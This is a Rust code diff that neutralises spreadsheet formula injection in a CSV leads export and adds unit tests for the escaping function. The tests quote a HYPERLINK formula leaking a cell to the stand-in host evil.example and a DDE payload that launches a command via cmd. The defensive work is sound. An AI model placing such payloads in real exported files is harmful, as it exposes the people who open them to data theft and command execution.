@@ -92,7 +92,7 @@ pub fn leads(
             let mut w = csv::Writer::from_writer(out);
             w.write_record(CSV_HEADER)?;
             for lead in leads {
-                w.write_record(lead?.csv_row())?;
+                w.write_record(lead?.csv_row().iter().map(|cell| csv_cell(cell).into_owned()))?;
                 written += 1;
             }
             w.flush()?;
@@ -108,6 +108,14 @@ pub fn leads(
         }
     }
     Ok(written)
+}
+
+/// A cell a spreadsheet will not run: text that starts like a formula (`=`, `+`, `-`, `@`, tab,
+/// carriage return; OWASP's list) gets a leading `'`. Campaigns, click ids, emails and
+/// preferences come from shoppers. Plain numbers (a negative score) stay numbers.
+fn csv_cell(cell: &str) -> std::borrow::Cow<'_, str> {
+    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
+    if formula { format!("'{cell}").into() } else { cell.into() }
 }
 
 /// Ad platforms' customer-list upload formats.
@@ -254,4 +262,30 @@ fn source_text(c: &Conversation) -> String {
 /// Milliseconds since the epoch as an RFC 3339 UTC time.
 pub fn rfc3339(ms: u64) -> String {
     humantime::format_rfc3339_seconds(std::time::UNIX_EPOCH + std::time::Duration::from_millis(ms)).to_string()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::csv_cell;
+
+    #[test]
+    fn cells_that_would_run_as_formulas_are_neutralised() {
+        for (cell, written) in [
+            (
+                "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")",
+                "'=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")",
+            ),
+            ("+1+2", "'+1+2"),
+            ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("-3", "-3"),
+            ("spring", "spring"),
+            ("ana@example.com", "ana@example.com"),
+            ("", ""),
+        ] {
+            assert_eq!(csv_cell(cell), written, "{cell:?}");
+        }
+    }
 }
